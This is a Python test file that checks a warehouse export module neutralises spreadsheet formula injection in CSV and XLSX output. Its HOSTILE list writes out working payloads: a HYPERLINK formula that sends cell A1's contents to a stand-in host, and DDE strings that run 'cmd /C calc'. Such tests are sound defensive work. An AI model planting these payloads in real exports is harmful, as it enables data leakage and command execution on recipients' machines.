"""Exports write department text a spreadsheet would run as inert text."""

import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from warehouse.formulas import csv_row, csv_text
from warehouse.xlsx import write_deterministic

HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_in_a_csv(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+12%", "-12", "城关镇", "", None, 42, "a=b", "1-2"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csv_text(value) == value


def test_a_row_is_neutralised_cell_by_cell():
    assert csv_row(["=1+1", "城关镇", 3]) == ["'=1+1", "城关镇", 3]


def test_a_workbook_saves_formula_text_as_text(tmp_path):
    book = Workbook()
    book.active.append(["乡镇", *HOSTILE])
    assert book.active["B1"].data_type == "f"                  # what openpyxl makes of it
    write_deterministic(book, tmp_path / "r.xlsx")
    with zipfile.ZipFile(tmp_path / "r.xlsx") as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    cells = [c.value for c in load_workbook(tmp_path / "r.xlsx").active[1]]
    assert cells == ["乡镇", *(text.replace("\r", "\n") for text in HOSTILE)]   # XML keeps no bare CR
